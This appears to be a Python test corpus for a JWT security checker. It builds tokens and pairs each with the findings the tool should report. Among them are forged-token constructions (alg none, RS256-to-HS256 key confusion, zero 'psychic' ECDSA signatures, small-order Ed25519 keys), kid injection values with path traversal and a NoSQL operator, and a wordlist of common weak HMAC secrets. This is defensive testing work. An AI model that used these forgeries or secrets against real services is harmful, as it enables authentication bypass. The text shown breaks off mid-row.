row("invalid-utf8-header", hs(b'{"alg":"HS256","kid":"\xc0\xaf"}', claims()), ["invalid-utf8"])
row("missing-alg", hs({"typ": "JWT"}, claims()), ["missing-alg"])
row("empty-header-object", hs({}, claims()), ["missing-alg"])
row("hs256-empty-signature", f"{_H}.{_P}.", ["missing-signature"])
row("rs256-empty-signature", f"{enc({'alg': 'RS256'})}.{_P}.", ["missing-signature"])
_CANON = ok()
_last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_sig = _CANON.split(".")[2]
_noncanon = _sig[:-1] + _last[_last.index(_sig[-1]) | 1]
row("non-canonical-signature", _CANON.rsplit(".", 1)[0] + "." + _noncanon, ["non-canonical-base64"])
row(
    "oversize-cookie",
    with_payload(claims(blob="x" * 3500)),
    ["oversize-cookie"],
    ["oversize-header"],
)
row(
    "oversize-header", with_payload(claims(blob="x" * 7000)), ["oversize-header", "oversize-cookie"]
)
row(
    "normal-size", with_payload(claims(blob="x" * 2000)), [], ["oversize-cookie", "oversize-header"]
)
row(
    "jwe-compact",
    ".".join(
        [
            enc({"alg": "RSA-OAEP-256", "enc": "A256GCM"}),
            b64u(bytes(256)),
            b64u(bytes(12)),
            b64u(b"ciphertext"),
            b64u(bytes(16)),
        ]
    ),
    ["jwe-token"],
)
row(
    "alg-hs256-lowercase",
    hs({"alg": "hs256"}, claims(), alg="HS256"),
    ["unsupported-alg"],
    key=STRONG.decode(),
)
row(
    "alg-unknown",
    hs({"alg": "HS1"}, claims(), alg="HS256"),
    ["unsupported-alg"],
    key=STRONG.decode(),
)
row("not-a-token-prose", "hello, this is not a token", ["not-a-token"])
row("not-a-token-empty", "", ["not-a-token"])

# ---- what the input was wrapped in
_CLEAN = ok()
row("bearer-prefix", "Bearer " + _CLEAN, ["input-cleaned"], HIGH)
row("authorization-header", "Authorization: Bearer " + _CLEAN, ["input-cleaned"], HIGH)
row(
    "oauth-json-response",
    json.dumps({"access_token": _CLEAN, "token_type": "Bearer", "expires_in": 600}),
    ["input-cleaned"],
    HIGH,
)
row("cookie-header", "Cookie: theme=dark; session=" + _CLEAN, ["input-cleaned"], HIGH)
row(
    "url-fragment",
    "https://app.example/cb#access_token=" + _CLEAN + "&token_type=bearer",
    ["input-cleaned"],
    HIGH,
)
row("quoted", '"' + _CLEAN + '"', ["input-cleaned"], HIGH)
row(
    "line-wrapped", _CLEAN[:40] + "\n" + _CLEAN[40:80] + "\n" + _CLEAN[80:], ["input-cleaned"], HIGH
)
row("bare-clean", _CLEAN, [], HIGH)

# ---- weak HMAC secrets, signed by the tools and tutorials that use them
_WEAK = [
    "secret",
    "your-256-bit-secret",
    "a-string-secret-at-least-256-bits-long",
    "password",
    "changeme",
    "jwt_secret",
    "",
    "supersecret",
    "secretkey",
    "mysecret",
    "s3cr3t",
    "your_jwt_secret",
    "keyboard cat",
    "shhhhh",
    "secret123",
    "secret1",
    "123456",
    "qwerty",
    "admin",
    "test",
    "key",
    "jwt",
    "JWT_SECRET",
    "SECRET_KEY",
    "shhhhhhared-secret",
    "bezkoder-secret-key",
    "RANDOM_TOKEN_SECRET",
    "my_secret_key",
    "mySecretKey",
    "your-secret-key",
    "gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr9C",
    "myJwtSecret",
    "jwtPrivateKey",
    "secret_key_here",
    "thisisthesecretkey",
    "tobemodified",
    "TOP_SECRET",
    "YOUR_SECRET",
    "super secret",
    "my secret",
    "hard!to-guess_secret",
    "shared-secret",
    "SECRET123",
    "secretOrPrivateKey",
    "your_jwt_secret_key",
    "mysecretkey123",
    "change-this-secret",
    "javainuse",
    "somesupersecretsecret",
    "jwt-secret-string",
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
    "DO NOT USE THIS VALUE. INSTEAD, CREATE A COMPLEX SECRET AND KEEP IT SAFE OUTSIDE OF THE "
    "SOURCE CODE.",
]
for s in _WEAK:
    row(f"weak-secret-{s or 'EMPTY'}", hs(H, claims(), s), ["weak-secret"])
row("weak-secret-hs384", hs({"alg": "HS384", "typ": "JWT"}, claims(), "secret"), ["weak-secret"])
row("weak-secret-hs512", hs({"alg": "HS512", "typ": "JWT"}, claims(), "secret"), ["weak-secret"])
row(
    "weak-secret-switched-off",
    hs(H, claims(), "secret"),
    [],
    ["weak-secret"],
    check_weak_secrets=False,
)
row("weak-secret-key-given", hs(H, claims(), "secret"), ["weak-secret"], key="secret")
row(
    "weak-secret-key-given-wrong-sig",
    hs(H, claims(), STRONG),
    ["weak-secret", "invalid-signature"],
    key="changeme",
)
row("strong-secret-not-weak", hs(H, claims(), STRONG), [], ["weak-secret"])
row("strong-secret-valid-key", hs(H, claims(), STRONG), [], HIGH, key=STRONG.decode())
row(
    "wordlist-unreadable",
    hs(H, claims(), STRONG),
    ["wordlist-error"],
    wordlist="/nonexistent/dir/words.txt",
)

# ---- key-based findings
_RSA = rsa_priv(2048)
_RSA_PEM = pub_pem(_RSA)
row(
    "key-confusion-rs256-to-hs256-pem",
    hs(H, claims(), _RSA_PEM),
    ["key-confusion"],
    ["weak-secret"],
    key=_RSA_PEM,
)
row(
    "key-confusion-jwk", hs(H, claims(), _RSA_PEM), ["key-confusion"], key=json.dumps(jwk_rsa(_RSA))
)
_RSA_PKCS1_PEM = (
    _RSA.public_key()
    .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    .decode()
)
row(
    "key-confusion-pkcs1-pem",
    hs(H, claims(), _RSA_PKCS1_PEM),
    ["key-confusion"],
    key=_RSA_PKCS1_PEM,
)
# A leftover public key and an HS256 token it did not forge: a key that does not fit, no attack.
row(
    "hs256-with-leftover-pkcs1-pem",
    hs(H, claims(), "x"),
    ["key-alg-mismatch"],
    ["key-confusion", "invalid-signature"],
    key=_RSA_PKCS1_PEM,
)
row(
    "hs256-with-leftover-ec-pem",
    hs(H, claims(), "x"),
    ["key-alg-mismatch"],
    ["key-confusion", "invalid-signature"],
    key=pub_pem(ec_priv("P-256")),
)
# Forged with the key text after a byte-order mark and a zero-width space.
row(
    "key-confusion-jwk-after-bom",
    hs(H, claims(), "\ufeff\u200b" + json.dumps(jwk_rsa(_RSA))),
    ["key-confusion"],
    key="\ufeff\u200b" + json.dumps(jwk_rsa(_RSA)),
)


def _small_order_ed25519() -> tuple[str, str]:
    """x = 01 00...00 (the neutral element) and the signature R = that point, S = 0, which
    verifies every message under it."""
    header = {"alg": "EdDSA", "typ": "JWT"}
    si = f"{enc(header)}.{enc(claims())}"
    x = bytes([1]) + bytes(31)
    return f"{si}.{b64u(x + bytes(32))}", json.dumps({"kty": "OKP", "crv": "Ed25519", "x": b64u(x)})


_SMALL_TOKEN, _SMALL_KEY = _small_order_ed25519()
row("eddsa-small-order-key", _SMALL_TOKEN, ["small-order-key"], key=_SMALL_KEY)


def _certificate(key: Any, *, days: tuple[int, int], usage: bool) -> str:
    """Valid from ``days[0]`` to ``days[1]`` days after NOW; ``usage=False``: a KeyUsage
    without digitalSignature."""
    import datetime

    from tests.core.keyfactory import certificate_with

    start = datetime.datetime.fromtimestamp(NOW, datetime.UTC)
    return certificate_with(
        key,
        not_before=start + datetime.timedelta(days=days[0]),
        days=days[1] - days[0],
        digital_signature=None if usage else False,
        cn="corpus",
    )


_RS_TOKEN = rs({"alg": "RS256", "typ": "JWT"}, claims())
row(
    "rs256-certificate-expired",
    _RS_TOKEN,
    ["certificate-expired"],
    ["invalid-signature", "certificate-key-usage"],
    key=_certificate(_RSA, days=(-400, -35), usage=True),
)
row(
    "rs256-certificate-not-yet-valid",
    _RS_TOKEN,
    ["certificate-not-yet-valid"],
    ["invalid-signature", "certificate-expired"],
    key=_certificate(_RSA, days=(3, 400), usage=True),
)
row(
    "rs256-certificate-forbids-signatures",
    _RS_TOKEN,
    ["certificate-key-usage"],
    ["invalid-signature", "certificate-expired"],
    key=_certificate(_RSA, days=(-1, 365), usage=False),
)
row(
    "hs256-secret-file-with-final-newline",
    hs(H, claims(), STRONG),
    ["secret-trailing-newline", "invalid-signature"],
    key=STRONG.decode() + "\n",
)
row("rs256-valid", rs({"alg": "RS256", "typ": "JWT"}, claims()), [], HIGH, key=_RSA_PEM)
# ---- a signature of the wrong size (issue 12 item 3): cut off while copying, or added to
_RS_FULL = rs({"alg": "RS256", "typ": "JWT"}, claims())
row(
    "rs256-cut-40-characters-short",
    _RS_FULL[:-40],
    ["signature-length"],
    ["invalid-signature"],
    key=_RSA_PEM,
)
row(
    "hs256-cut-8-characters-short",
    ok()[:-8],
    ["signature-length"],
    ["invalid-signature"],
    key=STRONG.decode(),
)
row("hs256-cut-short-no-key", ok()[:-8], ["signature-length"])
row(
    "es256-signature-with-bytes-added",
    es({"alg": "ES256"}, claims()) + "AAAA",
    ["signature-length"],
    ["invalid-signature", "der-ecdsa-signature"],
    key=pub_pem(ec_priv("P-256")),
)
row(
    "hs256-secret-is-base64url-but-read-as-text",
    hs(H, claims(), STRONG),
    ["secret-encoding"],
    ["signature-length", "invalid-signature"],
    key=b64u(STRONG),
)
row(
    "rs256-tampered",
    (lambda t: t.split(".")[0] + "." + enc(claims(sub="admin")) + "." + t.split(".")[2])(
        rs({"alg": "RS256"}, claims())
    ),
    ["invalid-signature"],
    key=_RSA_PEM,
)
row(
    "weak-rsa-1024",
    rs({"alg": "RS256"}, claims(), bits=1024),
    ["weak-rsa-key"],
    key=pub_pem(rsa_priv(1024)),
)
row("short-hmac-secret", hs(H, claims(), "Zq8#kLm2pR"), ["short-hmac-secret"], key="Zq8#kLm2pR")
row(
    "short-hmac-secret-hs512",
    hs({"alg": "HS512"}, claims(), STRONG[:40]),
    ["short-hmac-secret"],
    key=STRONG[:40].decode(),
)
row(
    "empty-secret-base64", hs(H, claims(), b""), ["empty-secret"], key="=", secret_encoding="base64"
)
_ZERO = f"{enc({'alg': 'ES256', 'typ': 'JWT'})}.{enc(claims(sub='admin'))}.{b64u(bytes(64))}"
row(
    "psychic-signature",
    _ZERO,
    ["psychic-signature"],
    ["weak-secret"],
    key=pub_pem(ec_priv("P-256")),
)
row("psychic-signature-no-key", _ZERO, ["psychic-signature"])
row("es256-valid", es({"alg": "ES256"}, claims()), [], HIGH, key=pub_pem(ec_priv("P-256")))
row(
    "der-ecdsa-signature",
    es({"alg": "ES256"}, claims(), der=True),
    ["der-ecdsa-signature"],
    key=pub_pem(ec_priv("P-256")),
)
row("der-ecdsa-signature-no-key", es({"alg": "ES256"}, claims(), der=True), ["der-ecdsa-signature"])
row(
    "key-alg-mismatch-rs256-ec-key",
    rs({"alg": "RS256"}, claims()),
    ["key-alg-mismatch"],
    key=pub_pem(ec_priv("P-256")),
)
row(
    "key-alg-mismatch-es256-p384",
    es({"alg": "ES256"}, claims()),
    ["key-alg-mismatch"],
    key=pub_pem(ec_priv("P-384")),
)
row(
    "key-alg-mismatch-jwk-alg",
    rs({"alg": "RS256"}, claims()),
    ["key-alg-mismatch"],
    key=json.dumps(jwk_rsa(_RSA, alg="RS512")),
)
row(
    "key-use-enc",
    rs({"alg": "RS256"}, claims()),
    ["key-use-mismatch"],
    key=json.dumps(jwk_rsa(_RSA, use="enc")),
)
row(
    "key-ops-encrypt",
    rs({"alg": "RS256"}, claims()),
    ["key-use-mismatch"],
    key=json.dumps(jwk_rsa(_RSA, key_ops=["encrypt"])),
)
row(
    "jwks-duplicate-kid",
    rs({"alg": "RS256", "kid": "k1"}, claims()),
    ["duplicate-kid"],
    key=json.dumps({"keys": [jwk_rsa(_RSA, kid="k1"), jwk_rsa(rsa_priv(1024), kid="k1")]}),
)
row(
    "jwks-mixed-types",
    rs({"alg": "RS256", "kid": "k1"}, claims()),
    ["mixed-key-types"],
    key=json.dumps(
        {"keys": [jwk_rsa(_RSA, kid="k1"), {"kty": "oct", "k": b64u(STRONG), "kid": "h1"}]}
    ),
)
row(
    "jwks-no-matching-kid",
    rs({"alg": "RS256", "kid": "k9"}, claims()),
    ["no-matching-key"],
    key=json.dumps({"keys": [jwk_rsa(_RSA, kid="k1")]}),
)
row(
    "jwks-match",
    rs({"alg": "RS256", "kid": "k1"}, claims()),
    [],
    HIGH,
    key=json.dumps({"keys": [jwk_rsa(_RSA, kid="k1")]}),
)
row(
    "private-key-pasted-pkcs8",
    rs({"alg": "RS256"}, claims()),
    ["private-key-pasted"],
    HIGH,
    key=_RSA.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode(),
)
row(
    "private-key-pasted-pkcs1",
    rs({"alg": "RS256"}, claims()),
    ["private-key-pasted"],
    HIGH,
    key=_RSA.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.TraditionalOpenSSL,
        serialization.NoEncryption(),
    ).decode(),
)
row(
    "key-error-garbage-pem",
    rs({"alg": "RS256"}, claims()),
    ["key-error"],
    key="-----BEGIN PUBLIC KEY-----\nnot base64 at all\n-----END PUBLIC KEY-----",
)
row("key-error-incomplete-jwk", rs({"alg": "RS256"}, claims()), ["key-error"], key='{"kty":"RSA"}')


# ---- other algorithms, verified, and attacks hidden in the wrappers people paste
def _signed(alg: str, payload: Any) -> tuple[str, str]:
    """(token, public key text) for an asymmetric ``alg``, signed here with cryptography."""
    header = enc({"alg": alg, "typ": "JWT"})
    si = f"{header}.{enc(payload)}".encode()
    if alg == "PS256":
        pss = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32)
        return f"{si.decode()}.{b64u(rsa_priv(2048).sign(si, pss, hashes.SHA256()))}", _RSA_PEM
    if alg == "RS512":
        sig = rsa_priv(2048).sign(si, padding.PKCS1v15(), hashes.SHA512())
        return f"{si.decode()}.{b64u(sig)}", _RSA_PEM
    if alg == "ES384":
        der = ec_priv("P-384").sign(si, ec.ECDSA(hashes.SHA384()))
        r, s_ = decode_dss_signature(der)
        raw = r.to_bytes(48, "big") + s_.to_bytes(48, "big")
        return f"{si.decode()}.{b64u(raw)}", pub_pem(ec_priv("P-384"))
    key = _ED25519
    return f"{si.decode()}.{b64u(key.sign(si))}", pub_pem(key)


_ED25519 = ed25519.Ed25519PrivateKey.generate()
for _alg in ("PS256", "RS512", "ES384", "Ed25519"):
    _tok, _pub = _signed(_alg, claims())
    row(f"clean-{_alg}-verified", _tok, [], HIGH, key=_pub)
_tok, _pub = _signed("EdDSA", claims())
row("clean-EdDSA-verified-deprecated-name", _tok, ["deprecated-alg-name"], HIGH, key=_pub)
row(
    "bearer-alg-none",
    "Bearer " + unsigned({"alg": "none"}, _NONE_CLAIMS),
    ["alg-none", "input-cleaned"],
)
row(
    "cookie-kid-injection",
    "session=" + hs({"alg": "HS256", "kid": "/dev/null"}, claims(), b""),
    ["kid-injection", "weak-secret", "input-cleaned"],
)
row(
    "json-response-expired",
    json.dumps({"id_token": ok(exp=NOW - 60)}),
    ["expired", "input-cleaned"],
)
row(
    "url-fragment-weak-secret",
    "https://app.example/cb#id_token=" + hs(H, claims(), "secret") + "&state=xyz",
    ["weak-secret", "input-cleaned"],
)


# ---- clean tokens as the big providers issue them
def _provider(header: dict, payload: dict) -> str:
    return rs(header, payload)


_T0 = NOW - 600
_PROVIDERS = {
    "google-id-token": (
        {"alg": "RS256", "kid": "c8ab71530972bba20b49f78a09c9852c43ff9118", "typ": "JWT"},
        {
            "iss": "https://accounts.google.com",
            "azp": "1234987819200.apps.googleusercontent.com",
            "aud": "1234987819200.apps.googleusercontent.com",
            "sub": "110169484474386276334",
            "hd": "example.com",
            "email": "alice@example.com",
            "email_verified": True,
            "at_hash": "HK6E_P6Dh8Y93mRNtsDB1Q",
            "nonce": "0394852-3190485-2490358",
            "name": "Alice Example",
            "picture": "https://lh3.googleusercontent.com/a/ACg8ocK=s96-c",
            "given_name": "Alice",
            "family_name": "Example",
            "locale": "en",
            "iat": _T0,
            "exp": _T0 + 3600,
        },
    ),
    "entra-v2-access-token": (
        {"typ": "JWT", "alg": "RS256", "kid": "CNv0OI3RwqlHFEVnaoMAshCH2XE"},
        {
            "aud": "6e74172b-be56-4843-9ff4-e66a39bb12e3",
            "iss": "https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/v2.0",
            "iat": _T0,
            "nbf": _T0,
            "exp": _T0 + 4831,
            "aio": "AXQAi/8TAAAAbLmU8Z3ldHj8K6Ay+KpVyI1nP0bzKcZdQsbNaXYlCzEuG1eeQ6x+xA1d2J8Pv3vQ==",
            "azp": "6e74172b-be56-4843-9ff4-e66a39bb12e3",
            "azpacr": "0",
            "name": "Abe Lincoln",
            "oid": "690222be-ff1a-4d56-abd1-7e4f7d38e474",
            "preferred_username": "abeli@microsoft.com",
            "rh": "I1.AQABAAAAx5-SCXBM7E2Y8Yb8zU8wP8b3AYSBTd1h_YRy4U6C-AABAAA.",
            "roles": ["Orders.Read"],
            "scp": "access_as_user",
            "sub": "HKZpfaHyWadeOouYlitjrI-KffTm222X5rrV3xDqfKQ",
            "tid": "72f988bf-86f1-41af-91ab-2d7cd011db47",
            "uti": "fqiBqXLPj0eQa82S-IYFAA",
            "ver": "2.0",
            "wids": ["b79fbf4d-3ef9-4689-8143-76b194e85509"],
            "xms_tcdt": 1289241547,
        },
    ),
    "entra-v1-access-token": (
        {
            "typ": "JWT",
            "alg": "RS256",
            "x5t": "-KI3Q9nNR7bRofxmeZoXqbHZGew",
            "kid": "-KI3Q9nNR7bRofxmeZoXqbHZGew",
        },
        {
            "aud": "https://graph.microsoft.com",
            "iss": "https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/",
            "iat": _T0,
            "nbf": _T0,
            "exp": _T0 + 5134,
            "acct": 0,
            "acr": "1",
            "aio": "E2ZgYJhb/ruT6fh8qFh3ueRpG4e7AQ==",
            "amr": ["pwd", "mfa"],
            "app_displayname": "Graph Explorer",
            "appid": "de8bc8b5-d9f9-48b1-a8ad-b748da725064",
            "appidacr": "0",
            "family_name": "Lincoln",
            "given_name": "Abe",
            "idtyp": "user",
            "ipaddr": "203.0.113.7",
            "name": "Abe Lincoln",
            "oid": "690222be-ff1a-4d56-abd1-7e4f7d38e474",
            "platf": "3",
            "puid": "10030000A1B2C3D4",
            "scp": "openid profile User.Read email",
            "signin_state": ["kmsi"],
            "sub": "l3_roISQU222bULS9yi2k0XpqpOiMz5H3ZACo1GeXA",
            "tid": "72f988bf-86f1-41af-91ab-2d7cd011db47",
            "unique_name": "abeli@microsoft.com",
            "upn": "abeli@microsoft.com",
            "uti": "fqiBqXLPj0eQa82S-IYFAA",
            "ver": "1.0",
            "wids": ["b79fbf4d-3ef9-4689-8143-76b194e85509"],
            "xms_st": {"sub": "abc"},
            "xms_tcdt": 1289241547,
        },
    ),
    "auth0-access-token": (
        {
            "alg": "RS256",
            "typ": "JWT",
            "kid": "NkJCQzIyQzRBMEU4NjhGNUU4MzU4RkY0M0ZDQzkwOUQ0Q0VGNUMwMg",
        },
        {
            "https://example.com/roles": ["admin"],
            "https://example.com/email": "a@example.com",
            "iss": "https://dev-abc123.us.auth0.com/",
            "sub": "auth0|5f7c8ec7c33c6c004bbafe82",
            "aud": ["https://api.example.com", "https://dev-abc123.us.auth0.com/userinfo"],
            "iat": _T0,
            "exp": _T0 + 86400,
            "azp": "z2bgKiWoq3M4Fa0FT3PDc9Y8pBPsJvLd",
            "scope": "openid profile email read:messages",
            "gty": "password",
            "permissions": ["read:messages"],
        },
    ),
    "auth0-id-token": (
        {
            "alg": "RS256",
            "typ": "JWT",
            "kid": "NkJCQzIyQzRBMEU4NjhGNUU4MzU4RkY0M0ZDQzkwOUQ0Q0VGNUMwMg",
        },
        {
            "nickname": "alice",
            "name": "alice@example.com",
            "picture": "https://s.gravatar.com/avatar/x.png",
            "updated_at": "2025-06-15T14:50:00.000Z",
            "email": "alice@example.com",
            "email_verified": False,
            "iss": "https://dev-abc123.us.auth0.com/",
            "aud": "z2bgKiWoq3M4Fa0FT3PDc9Y8pBPsJvLd",
            "iat": _T0,
            "exp": _T0 + 36000,
            "sub": "google-oauth2|110169484474386276334",
            "sid": "K7a2pD9QwYk_2mX0nLhT5sR8vU1cEe4f",
            "nonce": "bm9uY2UtMTIz",
        },
    ),
    "keycloak-access-token": (
        {"alg": "RS256", "typ": "JWT", "kid": "FJ86GcF3jTbNLOco4NvZkUCIUmfYCqoqtOQeMfbhNlE"},
        {
            "exp": _T0 + 300 + 600,
            "iat": _T0 + 300,
            "auth_time": _T0,
            "jti": "0b3c2f7e-6a6d-4c1a-9a34-9f0a5f1e7d21",
            "iss": "http://localhost:8080/realms/myrealm",
            "aud": "account",
            "sub": "f:3f7c0d1a-2b4e-4c5f-8a9b-0c1d2e3f4a5b:alice",
            "typ": "Bearer",
            "azp": "my-app",
            "nonce": "n-0S6_WzA2Mj",
            "session_state": "5c8e2d1f-3a4b-4c6d-9e0f-1a2b3c4d5e6f",
            "acr": "1",
            "allowed-origins": ["http://localhost:3000"],
            "realm_access": {
                "roles": ["default-roles-myrealm", "offline_access", "uma_authorization"]
            },
            "resource_access": {"account": {"roles": ["manage-account", "view-profile"]}},
            "scope": "openid email profile",
            "sid": "5c8e2d1f-3a4b-4c6d-9e0f-1a2b3c4d5e6f",
            "email_verified": True,
            "name": "Alice Liddell",
            "preferred_username": "alice",
            "given_name": "Alice",
            "family_name": "Liddell",
            "email": "alice@example.com",
        },
    ),
    "okta-access-token": (
        {"kid": "a3zcC8o8dC3O3ZQ0P8cqzkJiS1vLsfGyT5A3fX2lU9Y", "alg": "RS256"},
        {
            "ver": 1,
            "jti": "AT.uI5W7LJjTeJUx5Bqf1yV8Wfo6nC8yZ4-1l1G9dQ0Zk0",
            "iss": "https://dev-123456.okta.com/oauth2/default",
            "aud": "api://default",
            "iat": _T0,
            "exp": _T0 + 3600,
            "cid": "0oa1abcd2EFGHijkl3m4",
            "uid": "00u1abcd2EFGHijkl3m4",
            "scp": ["openid", "profile", "email"],
            "auth_time": _T0 - 20,
            "sub": "alice@example.com",
            "groups": ["Everyone"],
        },
    ),
    "cognito-access-token": (
        {"kid": "4gkYw0Vd+8mZGv4DV2jQR7iCw1Yt0Qc/LzWAGRKhx8I=", "alg": "RS256"},
        {
            "sub": "aaaaaaaa-bbbb-cccc-dddd-example",
            "cognito:groups": ["admin"],
            "iss": "https://cognito-idp.us-west-2.amazonaws.com/us-west-2_example",
            "version": 2,
            "client_id": "1example23456789",
            "origin_jti": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "event_id": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "token_use": "access",
            "scope": "phone openid profile resourceserver.1/appclient2 email",
            "auth_time": _T0,
            "exp": _T0 + 3600,
            "iat": _T0,
            "jti": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "username": "my-test-user",
        },
    ),
    "cognito-id-token": (
        {"kid": "4gkYw0Vd+8mZGv4DV2jQR7iCw1Yt0Qc/LzWAGRKhx8I=", "alg": "RS256"},
        {
            "sub": "aaaaaaaa-bbbb-cccc-dddd-example",
            "cognito:groups": ["admin"],
            "email_verified": True,
            "iss": "https://cognito-idp.us-west-2.amazonaws.com/us-west-2_example",
            "cognito:username": "my-test-user",
            "origin_jti": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "aud": "1example23456789",
            "event_id": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "token_use": "id",
            "auth_time": _T0,
            "exp": _T0 + 3600,
            "iat": _T0,
            "jti": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "email": "my-test-user@example.com",
            "phone_number": "+12065551212",
            "phone_number_verified": True,
            "custom:tenant_id": "t-4711",
        },
    ),
    "firebase-id-token": (
        {"alg": "RS256", "kid": "a5a5b8f9e3c1d2e4f6a7b8c9d0e1f2a3b4c5d6e7", "typ": "JWT"},
        {
            "name": "Alice",
            "picture": "https://lh3.googleusercontent.com/a/x",
            "iss": "https://securetoken.google.com/my-project",
            "aud": "my-project",
            "auth_time": _T0 - 86400 * 30,
            "user_id": "kF2cHq1ZqVe3nM8wR5tY7uI9oP0a",
            "sub": "kF2cHq1ZqVe3nM8wR5tY7uI9oP0a",
            "iat": _T0,
            "exp": _T0 + 3600,
            "email": "alice@example.com",
            "email_verified": True,
            "firebase": {
                "identities": {
                    "google.com": ["110169484474386276334"],
                    "email": ["alice@example.com"],
                },
                "sign_in_provider": "google.com",
            },
        },
    ),
    "apple-id-token": (
        {"kid": "W6WcOKB", "alg": "RS256"},
        {
            "iss": "https://appleid.apple.com",
            "aud": "com.example.app",
            "exp": _T0 + 86400,
            "iat": _T0,
            "sub": "001234.abcdef0123456789abcdef0123456789.1234",
            "c_hash": "x1bPnXgHm5KgMfW0Ym3TqQ",
            "email": "abc123@privaterelay.appleid.com",
            "email_verified": "true",
            "is_private_email": "true",
            "auth_time": _T0,
            "nonce_supported": True,
            "real_user_status": 2,
        },
    ),
    "github-actions-oidc": (
        {"typ": "JWT", "alg": "RS256", "x5t": "example-thumbprint", "kid": "example-key-id"},
        {
            "jti": "example-id",
            "sub": "repo:octo-org/octo-repo:environment:prod",
            "environment": "prod",
            "aud": "https://github.com/octo-org",
            "ref": "refs/heads/main",
            "sha": "d6a5e3b0c2f1e4d7a8b9c0d1e2f3a4b5c6d7e8f9",
            "repository": "octo-org/octo-repo",
            "repository_owner": "octo-org",
            "actor_id": "12",
            "repository_visibility": "private",
            "repository_id": "74",
            "repository_owner_id": "65",
            "run_id": "9876543210",
            "run_number": "10",
            "run_attempt": "1",
            "runner_environment": "github-hosted",
            "actor": "octocat",
            "workflow": "example-workflow",
            "head_ref": "",
            "base_ref": "",
            "event_name": "workflow_dispatch",
            "ref_type": "branch",
            "job_workflow_ref": "octo-org/octo-automation/.github/workflows/oidc.yml"
            "@refs/heads/main",
            "iss": "https://token.actions.githubusercontent.com",
            "nbf": _T0,
            "exp": _T0 + 1200,
            "iat": _T0 + 300,
        },
    ),
    "kubernetes-projected-sa-token": (
        {"alg": "RS256", "kid": "Zq6nG8bTSAkP0dPqN7t4lK7iV9k5mV6uHcXb3Bq8W2Q"},
        {
            "aud": ["https://kubernetes.default.svc.cluster.local"],
            "exp": _T0 + 3600,
            "iat": _T0,
            "iss": "https://kubernetes.default.svc.cluster.local",
            "jti": "2b4a5c6d-7e8f-4a1b-9c2d-3e4f5a6b7c8d",
            "kubernetes.io": {
                "namespace": "default",
                "pod": {
                    "name": "web-7d9c8b6f5-x2x9k",
                    "uid": "d4c2b1a0-9e8f-4a7b-8c6d-5e4f3a2b1c0d",
                },
                "serviceaccount": {
                    "name": "default",
                    "uid": "3e2d1c0b-a9f8-4e7d-8c6b-5a4f3e2d1c0b",
                },
                "warnafter": _T0 + 3000,
            },
            "nbf": _T0,
            "sub": "system:serviceaccount:default:default",
        },
    ),
}
for name, (header, payload) in _PROVIDERS.items():
    row(f"clean-{name}", _provider(header, payload), [], HIGH)
    row(f"clean-{name}-verified", _provider(header, payload), [], HIGH, key=_RSA_PEM)
row(
    "clean-google-expired-later",
    _provider(*_PROVIDERS["google-id-token"]),
    ["expired"],
    now=NOW + 7200,
)
row(
    "clean-google-aud-iss-checked",
    _provider(*_PROVIDERS["google-id-token"]),
    [],
    HIGH,
    audience="1234987819200.apps.googleusercontent.com",
    issuer="https://accounts.google.com",
)


# ---- JWS JSON serialization (RFC 7515 §7.2): the unprotected header never decides anything
def _jws_json(header: Any, *, general: bool = False, extra_sigs: int = 0) -> str:
    protected, payload, signature = ok().split(".")
    sig: dict[str, Any] = {"protected": protected, "signature": signature}
    if header is not None:
        sig["header"] = header
    if general:
        return json.dumps({"payload": payload, "signatures": [sig] + [sig] * extra_sigs})
    return json.dumps({"payload": payload, **sig})


_STRONG = STRONG.decode()
row(
    "jws-json-alg-none-crit-unprotected",
    _jws_json({"alg": "none", "crit": ["exp"]}),
    ["jws-json-header-duplicate", "jws-json-unprotected-crit", "jws-json-unprotected-alg"],
    key=_STRONG,
)
row("jws-json-b64-unprotected", _jws_json({"b64": False}), ["jws-json-unprotected-crit"])
row("jws-json-header-array", _jws_json(["alg", "none"]), ["jws-json-header-not-object"])
row(
    "jws-json-three-signatures",
    _jws_json({"kid": "k1"}, general=True, extra_sigs=2),
    ["jws-json-signatures"],
    HIGH,
    key=_STRONG,
)
row(
    "jws-json-general-and-flattened",
    json.dumps({**json.loads(_jws_json(None, general=True)), "signature": "AAAA"}),
    ["jws-json-mixed"],
)
_UNENCODED_PROTECTED = (
    base64.urlsafe_b64encode(b'{"alg":"HS256","b64":false,"crit":["b64"]}').rstrip(b"=").decode()
)
row(
    "jws-json-signatures-disagree-about-b64",
    # RFC 7797 §3: the second signature says b64: false, the first does not.
    json.dumps(
        {
            "payload": "abc",
            "signatures": [
                {"protected": ok().split(".")[0], "signature": "AAAA"},
                {"protected": _UNENCODED_PROTECTED, "signature": "AAAA"},
            ],
        }
    ),
    ["jws-json-b64-mixed"],
)
row(
    "jws-json-kid-only-is-fine",
    _jws_json({"kid": "2024-05"}),
    [],
    HIGH,
    key=_STRONG,
)


# ---- regressions: disagreements this corpus found in the core, each fixed
row("fix-alg-none-trailing-space", unsigned({"alg": "none "}, _NONE_CLAIMS), ["alg-none"])
for _alg in (None, 256, ["HS256"], {"HS256": True}):
    row(
        f"fix-alg-not-a-string-{type(_alg).__name__}",
        hs({"alg": _alg, "typ": "JWT"}, claims()),
        ["missing-alg"],
    )
row("fix-kid-nosql-object", hs({"alg": "HS256", "kid": {"$ne": ""}}, claims()), ["kid-injection"])
row("fix-kid-array", hs({"alg": "HS256", "kid": ["../../dev/null"]}, claims()), ["kid-injection"])
row(
    "fix-iban-followed-by-word",
